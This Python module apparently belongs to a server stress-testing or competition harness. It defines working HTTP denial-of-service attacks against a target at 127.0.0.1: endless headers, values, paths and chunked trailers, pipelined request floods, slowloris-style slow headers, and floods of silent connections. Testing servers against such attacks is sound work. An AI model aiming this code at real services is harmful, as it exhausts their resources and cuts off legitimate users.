"""Heads and trailers, sent without end or very slowly."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from typing import TYPE_CHECKING, Final

from tools.attacks.frame import Attack

if TYPE_CHECKING:
    from collections.abc import Callable

    from tools.attacks.frame import Run, Target

BLOCK: Final = 64 * 1024
AT_ONCE: Final = 8
PAUSE: Final = 0.01
"""Seconds between blocks: 50 MB a second, as over a good line; without a pause this program would
take the core that honest players need.
"""
DRIPPING: Final = 200
GET: Final = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
POST: Final = b"POST /api/people HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"


def _endless(head: bytes, piece: bytes) -> Run:
    """Send a head, and then repeat it for ever, on several connections."""
    block = piece * (BLOCK // len(piece))

    async def run(target: Target) -> str:
        sent = cut = 0

        async def one() -> None:
            nonlocal sent, cut
            while True:
                with suppress(OSError):
                    _, writer = await target.connect()
                    try:
                        writer.write(head)
                        while True:
                            writer.write(block)
                            await writer.drain()
                            sent += len(block)
                            await asyncio.sleep(PAUSE)
                    finally:
                        writer.close()
                cut += 1
                await asyncio.sleep(0.01)

        try:
            await asyncio.gather(*(one() for _ in range(AT_ONCE)))
        except asyncio.CancelledError:
            return f"{sent // 2**20} MB sent, cut off {cut} times"
        return ""

    return run


def _slowly(head: Callable[[], bytes]) -> Run:
    """Open many connections that send a little of a head now and then, or nothing."""

    async def run(target: Target) -> str:
        ended = 0

        async def one() -> None:
            nonlocal ended
            while True:
                with suppress(OSError):
                    reader, writer = await target.connect()
                    try:
                        writer.write(head())
                        while not reader.at_eof():
                            with suppress(TimeoutError):
                                await asyncio.wait_for(reader.read(4096), 1.0)
                            if head():
                                writer.write(b"a: b\r\n")
                                await writer.drain()
                    finally:
                        writer.close()
                ended += 1
                await asyncio.sleep(0.5)

        try:
            await asyncio.gather(*(one() for _ in range(DRIPPING)))
        except asyncio.CancelledError:
            return f"{DRIPPING} at once, ended {ended} times"
        return ""

    return run


async def _silent(target: Target) -> str:
    """Open as many connections as allowed, and never send anything."""
    opened = most = 0
    there: set[asyncio.Task[None]] = set()

    async def wait(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError):
            await reader.read()
            # Refused at once, or after a while.
        writer.close()

    try:
        while True:
            with suppress(OSError):
                task = asyncio.create_task(wait(*await target.connect()))
                there.add(task)
                task.add_done_callback(there.discard)
                opened += 1
            most = max(most, len(there))
            await asyncio.sleep(0.002)
    except asyncio.CancelledError:
        for task in list(there):
            task.cancel()
        return f"{opened} opened, {most} of them open at once"


headers_without_end = Attack("headers without end", _endless(GET, b"a: b\r\n"))
one_endless_value = Attack("one endless value", _endless(GET + b"a: ", b"b"))
endless_path = Attack("a path without end", _endless(b"GET /", b"a"))
trailers_without_end = Attack(
    "trailers without end", _endless(POST + b"1\r\nx\r\n0\r\n", b"a: b\r\n")
)
requests_without_answers = Attack("requests all at once", _endless(b"", GET + b"\r\n"))
slow_headers = Attack("slow headers", _slowly(lambda: GET))
silent_connections = Attack("silent connections", _silent)
